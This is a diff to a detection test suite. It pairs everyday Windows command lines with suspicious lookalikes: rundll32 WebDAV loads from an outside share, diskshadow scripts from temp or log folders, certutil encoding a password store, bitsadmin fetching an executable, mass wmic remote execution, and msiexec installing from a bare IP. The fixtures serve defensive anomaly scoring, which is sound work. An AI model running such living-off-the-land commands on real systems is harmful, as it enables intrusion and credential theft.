@@ -68,6 +68,11 @@ describe('what everybody does is no deviation by itself, what looks like it is o
       String.raw`regsvr32.exe ¦ regsvr32 "D:\Office\Maker.dll" ¦ cmd.exe`,
     ],
     [
+      'a library of a package is registered among sources, and one on top of them',
+      String.raw`regsvr32.exe ¦ regsvr32 D:\workspace\app\node_modules\plug\dist\plug.dll /s ¦ cmd.exe`,
+      String.raw`regsvr32.exe ¦ regsvr32 D:\workspace\app\plug.dll /s ¦ cmd.exe`,
+    ],
+    [
       'a developer takes back what was built',
       String.raw`installutil.exe ¦ InstallUtil.exe /u bin\Debug\Mailer.exe ¦ cmd.exe`,
       String.raw`installutil.exe ¦ InstallUtil.exe /u temp\Mailer.exe ¦ cmd.exe`,
@@ -176,6 +181,61 @@ describe('what everybody does is no deviation by itself, what looks like it is o
       "every edition of SQL Server's PowerShell, and a copy of it",
       String.raw`sqlps.exe@C:\Program Files (x86)\Microsoft SQL Server\160\Tools\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
       String.raw`sqlps.exe@C:\ProgramData\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
+    ],
+    [
+      "Windows' own library as a service, and one of a product's data",
+      String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\nvsvc.dll,nvsvcStart ¦ services.exe ¦ SYSTEM`,
+      String.raw`rundll32.exe ¦ rundll32.exe C:\ProgramData\Vendor\Mon\mon6.dll,Init ¦ services.exe ¦ SYSTEM`,
+    ],
+    [
+      "a library of the organisation's cloud, of a program of this very host, and a stranger's share",
+      String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie localhost@9843 http://localhost:9843/Desktop.ini ¦ svchost.exe`,
+      String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie share-docs.example@SSL https://share-docs.example/DavWWWRoot/ ¦ wscript.exe`,
+    ],
+    [
+      'an archive of logs is packed, and a script among them is run',
+      String.raw`makecab.exe ¦ makecab C:\Windows\Logs\CBS\CbsPersist.log C:\Windows\Logs\CBS\CbsPersist.cab ¦ svchost.exe ¦ SYSTEM`,
+      String.raw`diskshadow.exe ¦ diskshadow.exe /s C:\Windows\System32\wbem\Logs\a.txt ¦ svchost.exe ¦ SYSTEM`,
+    ],
+    [
+      "the deployment agent runs its policy's script, and one among its logs",
+      String.raw`agentexecutor.exe@C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe ¦ AgentExecutor.exe -powershell "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\a.ps1" ¦ svchost.exe ¦ SYSTEM`,
+      String.raw`agentexecutor.exe@C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe ¦ AgentExecutor.exe -powershell "C:\ProgramData\Microsoft\IntuneManagementExtension\Logs\a.ps1" ¦ svchost.exe ¦ SYSTEM`,
+    ],
+    [
+      "copies of disks by an administrator's script, and by one that arrived",
+      String.raw`diskshadow.exe ¦ diskshadow /s C:\Scripts\vss\snap.dsh /l C:\Scripts\vss\snap.log ¦ cmd.exe`,
+      String.raw`diskshadow.exe ¦ diskshadow /s C:\Windows\Temp\snap.dsh ¦ cmd.exe`,
+    ],
+    [
+      'a certificate with its key, and a store of passwords, as text',
+      String.raw`certutil.exe ¦ certutil -f -encode D:\Certs\site.pfx D:\Certs\site.b64 ¦ cmd.exe`,
+      String.raw`certutil.exe ¦ certutil -f -encode D:\Certs\site.kdbx D:\Certs\site.b64 ¦ cmd.exe`,
+    ],
+    [
+      "what is not code, from the organisation's own server, and what is",
+      String.raw`bitsadmin.exe ¦ bitsadmin /transfer v /download /priority normal http://updates.corp.local/app/version.txt C:\ProgramData\App\version.txt ¦ cmd.exe`,
+      String.raw`bitsadmin.exe ¦ bitsadmin /transfer v /download /priority normal http://updates.corp.local/app/version.exe C:\ProgramData\App\version.exe ¦ cmd.exe`,
+    ],
+    [
+      "another host is told to take the domain's policies, and all of a list are",
+      'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force" ¦ cmd.exe',
+      'wmic.exe ¦ wmic /node:@hosts.txt process call create "cmd.exe /c gpupdate /force" ¦ cmd.exe',
+    ],
+    [
+      'a connection that deployment left with the product, and one for all users',
+      String.raw`cmstp.exe ¦ cmstp.exe /s /su /ns "C:\ProgramData\Corp\VPN\corp.inf" ¦ powershell.exe`,
+      String.raw`cmstp.exe ¦ cmstp.exe /s /au "C:\ProgramData\Corp\VPN\corp.inf" ¦ powershell.exe`,
+    ],
+    [
+      'the checksum of a program beside the caller, and what it loads from there',
+      'certutil.exe ¦ certutil -hashfile kubectl.exe SHA256 ¦ cmd.exe',
+      'rundll32.exe ¦ rundll32 kubectl.dll,Run ¦ cmd.exe',
+    ],
+    [
+      'what a server is to listen to, and where it comes from',
+      'msiexec.exe ¦ msiexec /I webdeploy.msi /passive ADDLOCAL=ALL LISTENURL=http://+:8080/ ¦ -',
+      'msiexec.exe ¦ msiexec /I http://203.0.113.9:8080/webdeploy.msi /passive ¦ -',
     ],
   ])('%s', (_, everyday, alike) => {
     const [quiet, loud] = [scored(everyday), scored(alike)]
